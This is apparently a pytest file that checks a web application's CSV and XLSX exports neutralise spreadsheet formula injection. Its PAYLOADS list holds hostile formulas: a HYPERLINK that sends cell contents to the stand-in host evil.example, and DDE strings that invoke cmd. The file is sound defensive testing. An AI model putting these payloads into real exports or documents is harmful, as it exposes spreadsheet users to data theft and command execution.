"""Finding 6: no export hands a spreadsheet a live formula (OWASP CSV injection).

Before: Delphi comments and directory fields went out unescaped, and openpyxl stored
any string starting with "=" as a formula. One test per export.
"""

from __future__ import annotations

import csv
import io

import duckdb
import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from tests.delphi.factories import make_open_study

from permed_atlas.delphi.service import submit_ratings
from permed_atlas.delphi.tables import ExpertRow, ItemRow
from permed_atlas.spreadsheet import neutralise_arrow_table, neutralise_cell, safe_writer

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(cells: list[str], expected: list[str]) -> None:
    """Every payload is there, as text: with the apostrophe, and never bare."""
    for payload in expected:
        assert "'" + payload in cells, payload
        assert payload not in cells, payload


@pytest.mark.parametrize("value", PAYLOADS)
def test_the_helper_prefixes_exactly_the_dangerous_cells(value: str) -> None:
    assert neutralise_cell(value) == "'" + value
    for harmless in ["Charité", "a=b", " =1", "", "1-2"]:
        assert neutralise_cell(harmless) == harmless
    assert neutralise_cell(-3) == -3 and neutralise_cell(2.5) == 2.5
    assert neutralise_cell(None) is None


@pytest.fixture
def poisoned_study(app):  # type: ignore[no-untyped-def]
    """A study whose statements, expert names and comments are formula payloads."""
    with app.state.session_factory() as session:
        built = make_open_study(session, n_experts=3, n_items=3)
        session.execute(update(ItemRow).values(statement=PAYLOADS[0]))
        session.execute(update(ExpertRow).values(name=PAYLOADS[1]))
        token = built.tokens[built.experts[0].id]
        submit_ratings(
            session,
            token,
            ratings={item.id: 4 for item in built.items},
            comments={built.items[0].id: PAYLOADS[2], built.items[1].id: PAYLOADS[3]},
            revision=0,
        )
        session.commit()
    return built


@pytest.fixture
def editor(client, make_user, login):  # type: ignore[no-untyped-def]
    make_user("ed@example.org", "editor")
    login(client, "ed@example.org")
    return client


def test_delphi_ratings_csv(editor, poisoned_study) -> None:  # type: ignore[no-untyped-def]
    response = editor.get(f"/delphi/studies/{poisoned_study.study.id}/ratings.csv")
    assert response.status_code == 200
    _assert_inert(_cells(response.text), [PAYLOADS[2], PAYLOADS[3]])


def test_delphi_statistics_csv(editor, poisoned_study) -> None:  # type: ignore[no-untyped-def]
    # The study is not published, so only a coordinator (editor) gets its statistics.
    response = editor.get(f"/delphi/studies/{poisoned_study.study.id}/statistics.csv")
    assert response.status_code == 200
    _assert_inert(_cells(response.text), [PAYLOADS[0]])


def test_delphi_invitations_csv(editor, poisoned_study) -> None:  # type: ignore[no-untyped-def]
    response = editor.post(
        f"/delphi/rounds/{poisoned_study.round.id}/invitations", data={"reissue": "on"}
    )
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    _assert_inert(_cells(response.text), [PAYLOADS[1]])


def test_delphi_xlsx_holds_no_formula(editor, poisoned_study) -> None:  # type: ignore[no-untyped-def]
    response = editor.get(f"/delphi/studies/{poisoned_study.study.id}/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    _assert_inert([v for v in values if isinstance(v, str)], [PAYLOADS[0], PAYLOADS[2]])


def test_directory_csv_over_http(client, app) -> None:  # type: ignore[no-untyped-def]
    from permed_atlas.directory.tables import DirectoryEntryRow

    client.get("/api/v1/directory/entries")  # seeds the bundled entries
    with app.state.session_factory() as session:
        row = session.scalars(select(DirectoryEntryRow)).first()
        assert row is not None
        row.name = PAYLOADS[0]
        row.data = {**row.data, "name": PAYLOADS[0], "summary": PAYLOADS[4]}
        session.commit()
    response = client.get("/api/v1/directory/export", params={"format": "csv"})
    assert response.status_code == 200
    _assert_inert(_cells(response.text), [PAYLOADS[0], PAYLOADS[4]])


def test_roadmap_csvs() -> None:
    from permed_atlas.roadmap.exports import to_csv

    # actions.csv, indicators.csv, observations.csv and scorecard.csv are all written by to_csv
    text = to_csv([{"code": "A1", "title": PAYLOADS[0], "value": -3.5, "note": PAYLOADS[5]}])
    _assert_inert(_cells(text), [PAYLOADS[0], PAYLOADS[5]])
    assert "-3.5" in _cells(text)  # numbers stay numbers


def test_landscape_indicator_csv() -> None:
    from permed_atlas.landscape.presenters import csv_response

    response = csv_response([{"institution": PAYLOADS[0], "works": 3}], "top_institutions")
    _assert_inert(_cells(bytes(response.body).decode()), [PAYLOADS[0]])


def test_landscape_search_export_csv(settings, web_corpus, app, client) -> None:  # type: ignore[no-untyped-def]
    app.state.corpus.close()
    with duckdb.connect(str(web_corpus)) as connection:
        connection.execute("UPDATE works SET title = ? WHERE work_id = 1", [PAYLOADS[0]])
    response = client.get(
        "/api/v1/landscape/search/export", params={"q": "lung cancer", "format": "csv"}
    )
    assert response.status_code == 200, response.text
    _assert_inert(_cells(response.text), [PAYLOADS[0]])


def test_arrow_tables_and_cli_writers() -> None:
    import pyarrow as pa
    import pyarrow.csv as pa_csv

    buffer = io.BytesIO()
    pa_csv.write_csv(neutralise_arrow_table(pa.table({"t": PAYLOADS, "n": range(7)})), buffer)
    _assert_inert(_cells(buffer.getvalue().decode()), PAYLOADS)
    # the partners CLI's CSV (rows of fields) and the landscape indicators CSV
    text = io.StringIO()
    safe_writer(text).writerow(["name", PAYLOADS[1]])
    _assert_inert(_cells(text.getvalue()), [PAYLOADS[1]])
    from permed_atlas.landscape.analysis_cli import indicators_csv

    out = indicators_csv({"top": [{"institution": PAYLOADS[3], "works": 1}]})
    _assert_inert(_cells(out), [PAYLOADS[3]])
